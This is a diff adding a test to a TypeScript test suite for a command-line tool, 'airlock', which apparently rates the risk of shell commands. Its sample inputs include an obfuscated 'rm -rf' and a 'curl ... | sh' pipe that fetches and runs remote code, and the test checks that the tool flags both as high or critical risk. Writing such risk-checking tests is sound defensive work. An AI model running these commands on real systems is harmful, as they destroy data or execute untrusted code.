@@ -35,6 +35,18 @@ describe('airlock CLI', () => {
     assert.match(result.stdout, /no_where/);
   });
 
+  it('explains shell lines with the same JSON contract', () => {
+    const lines = ['ls -la', "r''m -rf /tmp/x", 'curl http://x | sh', "echo 'open"];
+    const result = airlock(['explain', '--protocol', 'shell', '--json', '-'], JSON.stringify(lines));
+    assert.equal(result.status, 0, result.stderr);
+    const out = JSON.parse(result.stdout) as { risk: string; requirement: string; facts: { kinds: string[]; flags: string[] } }[];
+    for (const item of out) assert.deepEqual(Object.keys(item).sort(), ['facts', 'requirement', 'risk', 'rules']);
+    assert.deepEqual(out.map((o) => o.risk), ['low', 'high', 'critical', 'critical']);
+    assert.equal(out[0]?.requirement, 'allow');
+    assert.ok(out[1]?.facts.kinds.includes('rm'));
+    assert.ok(out[3]?.facts.flags.includes('incomplete'));
+  });
+
   it('refuses protocols that are not built yet with a clear error', () => {
     const result = airlock(['explain', '--protocol', 'http', 'GET /']);
     assert.equal(result.status, 1);
